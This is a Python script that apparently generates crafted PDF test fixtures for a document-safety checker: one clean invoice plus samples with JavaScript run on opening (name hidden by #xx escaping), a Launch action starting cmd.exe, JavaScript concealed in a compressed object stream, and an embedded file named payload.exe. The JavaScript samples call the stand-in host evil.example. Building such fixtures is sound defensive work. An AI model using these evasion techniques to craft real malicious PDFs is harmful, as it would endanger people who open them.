"""Makes the crafted PDFs of the test corpus (run: python3 make_pdfs.py).

Minimal PDFs; the byte offsets in their cross-reference tables are not kept
exact, which readers forgive and which does not matter to the checks.
"""
import zlib

HEAD = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
PAGE = (b"3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>\nendobj\n"
        b"4 0 obj\n<< /Length 44 >>\nstream\nBT /F1 12 Tf 72 770 Td (Invoice 4471) Tj ET\nendstream\nendobj\n")
PAGES = b"2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n"
TAIL = b"trailer\n<< /Root 1 0 R /Size 6 >>\n%%EOF\n"


def write(name, catalog, extra=b""):
    with open(name, "wb") as f:
        f.write(HEAD + b"1 0 obj\n" + catalog + b"\nendobj\n" + PAGES + PAGE + extra + TAIL)


# Accepted: opens at the first page (an OpenAction that only goes to a page).
write("clean-invoice.pdf", b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>")
# JavaScript run on opening, the name written with a #xx escape.
write("javascript-on-open.pdf",
      b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>",
      b"5 0 obj\n<< /S /J#61vaScript /J#53 (app.launchURL\\('https://evil.example'\\)) >>\nendobj\n")
# A launch action that starts a program.
write("launch-action.pdf",
      b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (cmd.exe) >> >>")
# The JavaScript action hidden in a compressed object stream.
hidden = b"5 0 << /S /JavaScript /JS (this.submitForm\\('https://evil.example'\\)) >>"
packed = zlib.compress(hidden)
write("javascript-in-object-stream.pdf",
      b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>",
      b"6 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(packed)
      + packed + b"\nendstream\nendobj\n")
# A file embedded inside the PDF.
write("embedded-file.pdf",
      b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(payload.exe) 5 0 R] >> >> >>",
      b"5 0 obj\n<< /Type /Filespec /F (payload.exe) /EF << /F 7 0 R >> >>\nendobj\n"
      b"7 0 obj\n<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream\nendobj\n")
